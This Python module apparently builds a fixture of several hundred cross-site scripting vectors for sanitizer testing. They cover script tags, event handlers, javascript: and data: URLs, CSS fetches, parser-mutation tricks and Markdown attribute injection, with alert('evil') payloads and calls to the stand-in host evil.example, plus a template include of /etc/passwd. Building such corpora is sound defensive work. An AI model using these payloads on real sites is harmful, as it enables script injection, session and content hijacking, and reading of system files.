"""What hostile people write where a text is expected, by the way that it should come to run something.

Every vector would call ``evil``, or ask ``evil.example`` for something, where it worked.
"""

# ruff: noqa: E501  (a vector is read on one line)
from __future__ import annotations

from collections.abc import Iterator, Mapping

_RUN = "alert('evil')"
_FAR = "//evil.example/x"

_HANDLERS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "ontoggle",
    "onbeforetoggle",
    "onpageshow",
    "onhashchange",
    "onpointerover",
    "onpointerenter",
    "onwheel",
    "onscroll",
    "onscrollend",
    "onresize",
    "onbegin",
    "onend",
    "onrepeat",
    "oncut",
    "oncopy",
    "onpaste",
    "onsecuritypolicyviolation",
    "oncontentvisibilityautostatechange",
    "onfocusin",
    "onauxclick",
    "onbeforematch",
    "onsearch",
    "onmessage",
    "onpopstate",
    "oncanplay",
    "onloadstart",
    "ONLOAD",
    "oNcLiCk",
]

_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "java\tscript:{}", "java\nscript:{}",
    "java\rscript:{}", "\x01javascript:{}", "\x1fjavascript:{}", "\u00a0javascript:{}", "\u2028javascript:{}",
    "\ufeffjavascript:{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}",
    "java&Tab;script:{}", "java&NewLine;script&colon;{}", "javascript&colon;{}", "javascript&#58;{}",
    "javascript:{}//http://ok.example", "javascript://%0a{}", "javascript:/*x*/{}", "j\\avascript:{}",
    "vbscript:{}", "livescript:{}", "mocha:{}", "data:text/html,<script>{}</script>", "blob:{}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnZXZpbCcpPC9zY3JpcHQ+", "filesystem:{}", "view-source:javascript:{}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload={}>", "jar:{}", "about:{}", "ms-its:{}",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{}</script>", "%6Aavascript:{}",
)  # fmt: skip


def _scripts() -> Iterator[str]:
    """Elements that run, whole, broken, or nested so that taking one away would make another."""
    yield from (
        f"<script>{_RUN}</script>", f"<SCRIPT>{_RUN}</SCRIPT>", f"<script\n>{_RUN}</script\n>", f"<script/x>{_RUN}</script>",
        f"<script src={_FAR}.js></script>", f"<script src='data:,{_RUN}'></script>", f"<scr<script>ipt>{_RUN}</script>",
        f"<scr<!-- -->ipt>{_RUN}</script>", f"<script>{_RUN}", f"<script\x0c>{_RUN}</script>", f"<script\x00>{_RUN}</script>",
        f"<\x00script>{_RUN}</script>", f"< script>{_RUN}</script>", f"<script type=module>{_RUN}</script>",
        f"<script type=text/vbscript>{_RUN}</script>", f"<<script>{_RUN}//<</script>", f"</title><script>{_RUN}</script>",
        f"</textarea><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"</script><script>{_RUN}</script>",
        f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>", f"\"><script>{_RUN}</script>", f"'><script>{_RUN}</script>",
        f"`><script>{_RUN}</script>", f"<script>{_RUN}</script", f"<script <b>{_RUN}</script>", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        f"%3Cscript%3E{_RUN}%3C/script%3E", f"\u003cscript\u003e{_RUN}\u003c/script\u003e", f"＜script＞{_RUN}＜/script＞",
        f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"{{{{ {_RUN} }}}}", "{% include '/etc/passwd' %}",
    )  # fmt: skip


def _comments() -> Iterator[str]:
    """Comments, sections and declarations that end elsewhere than they seem to."""
    image = f"<img src=x onerror={_RUN}>"
    yield from (
        f"<!--><script>{_RUN}</script>-->", f"<!---><script>{_RUN}</script>-->", f"<!-- --!><script>{_RUN}</script>-->",
        f"<!-- <!-- --> {image} -->", f"<!{image}>", f"<!-{image}->", f"<?xml {image}?>", f"<?php {image} ?>",
        f"<![CDATA[{image}]]>", f"<svg><![CDATA[{image}]]></svg>", f"<![CDATA[><script>{_RUN}</script>]]>", f"<%{image}%>",
        f"<!DOCTYPE html [<!ENTITY x '{image}'>]>&x;", f"<!--[if true]>{image}<![endif]-->", f"<!--[if gte IE 4]>{image}-->",
        f"</ {image}>", f"<//{image}>", f"<!----!>{image}<!---->", f"<comment>{image}</comment>", f"<!-->{image}",
    )  # fmt: skip


def _handlers() -> Iterator[str]:
    """Attributes that run, in every form of writing one."""
    for name in _HANDLERS:
        yield f"<b {name}={_RUN} tabindex=1 style='animation: x'>a</b>"
    forms = (
        "<img src=x {}>", "<img/src=x/{}>", "<img\tsrc=x\n{}>", "<img src='x'{}>", "<img src=x\x0c{}>", "<img src=x\x0b{}>",
        "<img title='a' a='>' src=x {}>", "<img src=x {} ", "<img src=x {}//", "<b <img src=x {}>", "<image src=x {}>",
        "<img src=\"x` `<script>\"` `{}>", "<img \"\"\"><img src=x {}>\">", "<IMG SRC=x {}>", "<img src=x a=`b {}>",
        "<svg {}>", "<svg/{}>", "<svg><g {}></g></svg>", "<math {}>", "<body {}>", "<video src=x {}>", "<audio src=x {}></audio>",
        "<details open {}>a</details>", "<input autofocus {}>", "<select autofocus {}>", "<textarea autofocus {}>",
        "<marquee {}>a</marquee>", "<table {}><tr><td>a</td></tr></table>", "<iframe {}></iframe>", "<object {}></object>",
        "<embed src=x {}>", "<div contenteditable {}>a</div>", "<a href=# {}>a</a>", "<form {}>a</form>", "<q cite=x {}>a</q>",
        "<style {}></style>", "<link rel=stylesheet href=x {}>", "<x {}>a</x>", "<x:y {}>a</x:y>", "<dialog open {}>a</dialog>",
    )  # fmt: skip
    for form in forms:
        for name in ("onload", "onerror", "onfocus", "ontoggle"):
            yield form.replace("{}", f"{name}={_RUN}")


def _addresses() -> Iterator[str]:
    """Addresses that run, in every attribute that takes one."""
    for scheme in _SCHEMES:
        address = scheme.replace("{}", _RUN.replace("'", "&#39;"))
        yield f'<a href="{address}">a</a>'
    holders = (
        "<iframe src='{}'></iframe>", "<embed src='{}'>", "<object data='{}'></object>", "<form action='{}'><button>a</button></form>",
        "<form><button formaction='{}'>a</button></form>", "<input type=image src='{}'>", "<img src='{}'>", "<img srcset='{} 1x'>",
        "<img lowsrc='{}'>", "<img dynsrc='{}'>", "<img usemap='{}'>", "<a ping='{}' href=x>a</a>", "<a xlink:href='{}'>a</a>",
        "<svg><a xlink:href='{}'><text y=1em>a</text></a></svg>", "<svg><use href='{}'/></svg>", "<svg><image href='{}'/></svg>",
        "<svg><a><animate attributeName=href values='{}'/><text y=1em>a</text></a></svg>", "<math href='{}'>a</math>",
        "<math><mi xlink:href='{}'>a</mi></math>", "<math><maction actiontype=statusline xlink:href='{}'>a</maction></math>",
        "<blockquote cite='{}'>a</blockquote>", "<del cite='{}'>a</del>", "<body background='{}'>", "<table background='{}'>",
        "<link rel=stylesheet href='{}'>", "<link rel=import href='{}'>", "<link rel=prefetch href='{}'>", "<base href='{}'>",
        "<video poster='{}'></video>", "<video><source src='{}'></video>", "<audio src='{}'></audio>", "<track src='{}'>",
        "<area href='{}'>", "<map name=m><area href='{}'></map>", "<frameset><frame src='{}'></frameset>", "<portal src='{}'></portal>",
        "<bgsound src='{}'>", "<applet codebase='{}'></applet>", "<isindex action='{}'>", "<html manifest='{}'>", "<q cite='{}'>a</q>",
        "<meta http-equiv=refresh content='0;url={}'>", "<meta http-equiv=refresh content=\"0; {}\">", "<img longdesc='{}'>",
        "<picture><source srcset='{}'><img src=x></picture>", "<svg><feImage href='{}'/></svg>", "<svg><script href='{}'/></svg>",
    )  # fmt: skip
    for holder in holders:
        yield holder.replace("{}", f"javascript:{_RUN.replace(chr(39), '&#39;')}")
        yield holder.replace("{}", f"https:{_FAR}.png")


def _styles() -> Iterator[str]:
    """Styles that run, fetch, or cover the page."""
    yield from (
        f"<b style='background: url({_FAR})'>a</b>", f"<b style='background: u\\72l({_FAR})'>a</b>",
        f"<b style='x: expression({_RUN})'>a</b>", f"<b style='behavior: url({_FAR})'>a</b>", f"<b style='-moz-binding: url({_FAR})'>a</b>",
        f"<b style='background: image-set(\"{_FAR}\" 1x)'>a</b>", f"<b style='list-style: url({_FAR})'>a</b>",
        f"<style>@import '{_FAR}';</style>", f"<style>body {{ background: url({_FAR}) }}</style>", f"<style><!--</style><script>{_RUN}</script>",
        f"<style>@font-face {{ font-family: x; src: url({_FAR}) }} body {{ font-family: x }}</style>",
        f"<svg><style>@import '{_FAR}';</style></svg>", f"<link rel=stylesheet href={_FAR}>", f"<p style=\"content: url('{_FAR}')\">a</p>",
        "<div style='position: fixed; inset: 0; background: red'>evil</div>", f"<b style='x:\\65xpression({_RUN})'>a</b>",
        f"<font style='filter: url({_FAR}#x)'>a</font>", f"<b style=\"cursor: url('{_FAR}'), auto\">a</b>",
    )  # fmt: skip


def _frames() -> Iterator[str]:
    """Pages within the page, forms, and what takes the reader elsewhere."""
    yield from (
        f"<iframe srcdoc='<script>{_RUN.replace(chr(39), '&quot;')}</script>'></iframe>", f"<iframe srcdoc='&lt;img src=x onerror={_RUN}&gt;'>",
        f"<iframe src={_FAR}></iframe>", f"<object data={_FAR}></object>", f"<embed src={_FAR}>", f"<base href=https:{_FAR}>",
        f"<base target=evil href=https:{_FAR}>", f"<meta http-equiv=refresh content=0;https:{_FAR}>",
        "<meta http-equiv=set-cookie content=evil=1>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        f"<form action=https:{_FAR}><input name=a><button>a</button></form>", f"<input form=x formaction=https:{_FAR} type=submit>",
        f"<a href=https:{_FAR} target=_blank ping=https:{_FAR}>a</a>", f"<a href=https:{_FAR} target=evil download>a</a>",
        f"<template><script>{_RUN}</script></template>", f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
        f"<div><template shadowrootmode=open><script>{_RUN}</script></template></div>", f"<frameset onload={_RUN}>",
        f"<link rel=preload as=image href=https:{_FAR}>", f"<link rel=dns-prefetch href={_FAR}>", f"<link rel=preconnect href={_FAR}>",
        f"<button popovertarget=x>a</button><div popover id=x onbeforetoggle={_RUN}>b</div>", f"<keygen autofocus onfocus={_RUN}>",
        f"<body onload={_RUN}>", f"<html onmouseover={_RUN}>", f"</body><body onload={_RUN}>", f"</html><script>{_RUN}</script>",
        "<plaintext>evil", "<xmp><script>alert('evil')</script></xmp>", "<listing>&lt;img onerror=alert('evil') src=x&gt;</listing>",
    )  # fmt: skip


def _mutations() -> Iterator[str]:
    """What a parser reads as harmless, writes, and another reads as something else."""
    image = f"<img src=x onerror={_RUN}>"
    yield from (
        f"<math><mtext><table><mglyph><style><!--</style>{image}", f"<svg></p><style><a id=\"</style>{image}\">",
        f"<math><mtext></form><form><mglyph><style></math>{image}", f"<svg><p><style><a title=\"</style>{image}\">",
        f"<math><annotation-xml encoding='text/html'>{image}</annotation-xml></math>", f"<svg><title><style>{image}</style></title></svg>",
        f"<svg><desc>{image}</desc></svg>", f"<svg><foreignObject>{image}</foreignObject></svg>",
        f"<svg><foreignObject><math><mi><style>{image}</style></mi></math></foreignObject></svg>", f"<math><mi>{image}</mi></math>",
        f"<form><div></form><form>{image}", f"<a><table><td><a>{image}</a></td></table></a>", f"<p><svg></p>{image}",
        f"<noscript><style></noscript>{image}</style>", f"<noembed>{image}</noembed>", f"<noframes>{image}</noframes>",
        f"<textarea>{image}</textarea>", f"<title>{image}</title>", f"<select><option>{image}</option></select>",
        f"<table><caption>{image}</caption></table>", f"<table>{image}<tr><td>a</td></tr></table>", f"<svg><script>{_RUN}</script></svg>",
        f"<svg><a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"javascript:{_RUN}\"><text>a</text></a></svg>",
        f"<x xmlns='http://www.w3.org/1999/xhtml'><script>{_RUN}</script></x>", f"<svg><set attributeName=onload to={_RUN}></svg>",
        f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<math><style>{image}</style></math>", f"<svg><style>{image}</style></svg>",
        f"<b title='</b>{image}'>a</b>", f"<b title=\"&quot;&gt;{image}\">a</b>", f"<b title='`{image}`'>a</b>",
        f"<p id=\"</p>{image}\">", f"<details><summary>{image}</summary></details>", f"<ruby><rt>{image}</rt></ruby>", f"{image * 20}",
        f"<b lang='\"><script>{_RUN}</script>'>a</b>", f"<b dir='x\" onclick=\"{_RUN}'>a</b>", f"<b class='a\" onclick=\"{_RUN}'>a</b>",
        f"<td colspan='1\" onclick=\"{_RUN}'>a</td>", f"<ol start='1\" onclick=\"{_RUN}'><li>a</li></ol>",
    )  # fmt: skip


def _markdown() -> Iterator[str]:
    """Markdown's own ways to addresses and attributes."""
    for scheme in _SCHEMES[:24]:
        yield f"[a]({scheme.replace('{}', 'alert(1)').strip().replace(' ', '%20')})"
    yield from (
        f"[a](<javascript:{_RUN}>)", f"<javascript:{_RUN}>", f"![a](javascript:{_RUN})", f"![a](https:{_FAR}.png)",
        f"[a](x \"' onclick={_RUN}\")", f"[a](x '\" onclick={_RUN}')", f"![\" onerror={_RUN} x=\"](x)", f"![a](x\" onerror={_RUN}.png)",
        f"[a]{{onclick=\"{_RUN}\"}}", f"[a]{{style=\"background: url({_FAR})\"}}", f"[a](x){{onclick=\"{_RUN}\" target=evil}}",
        f"[a]{{.b\"onclick=\"{_RUN}}}", f"[a]{{lang='\" onclick=\"{_RUN}'}}", f"[a]{{data-x='\"><script>{_RUN}</script>'}}",
        f"[a]{{dir=\"ltr\" xlink:href=\"javascript:{_RUN}\"}}", f"[a]{{formaction=\"javascript:{_RUN}\"}}", "[a]{srcdoc=\"<b>\"}",
        f"`<script>{_RUN}</script>`", f"`<script>{_RUN}</script>`{{=html}}", f"`<img src=x onerror={_RUN}>`{{=html5}}",
        f"`</p><script>{_RUN}</script>`{{=html4}}", f"$</math><script>{_RUN}</script>$", f"$\\href{{javascript:{_RUN}}}{{x}}$",
        f"$\\text{{<img src=x onerror={_RUN}>}}$", f"\\<script>{_RUN}\\</script>", f"&lt;img src=x onerror={_RUN}&gt;",
        f"[x]: javascript:{_RUN}", f"<a href='javascript:{_RUN}'>*a*</a>", f"<b onclick={_RUN}>*a*</b>", f"[^1]<script>{_RUN}</script>",
        f"[a](#\"><script>{_RUN}</script>)", f"[<img src=x onerror={_RUN}>](x)", f"*<b* onclick={_RUN}>", f"~~<i~~/onload={_RUN}>",
        f"`a`{{.x onclick={_RUN}}}", f"[a](data:text/html,<script>{_RUN}</script>)", f"<https://ok.example/\"onclick={_RUN}>",
        f"`<svg onload={_RUN}>`{{=xhtml}}", f"`<script>{_RUN}</script>`{{=epub3}}", f"`<script>{_RUN}</script>`{{=slidy}}",
        f"`<script>{_RUN}</script>`{{=markdown}}", f"`<script>{_RUN}</script>`{{=s5}}", f"`<script>{_RUN}</script>`{{=HTML}}",
    )  # fmt: skip


VECTORS: Mapping[str, tuple[str, ...]] = {
    "scripts": tuple(_scripts()),
    "comments": tuple(_comments()),
    "handlers": tuple(_handlers()),
    "addresses": tuple(_addresses()),
    "styles": tuple(_styles()),
    "frames and forms": tuple(_frames()),
    "mutations": tuple(_mutations()),
    "Markdown": tuple(_markdown()),
}
"""By the way that each goes."""

EVERY = tuple(vector for vectors in VECTORS.values() for vector in vectors)
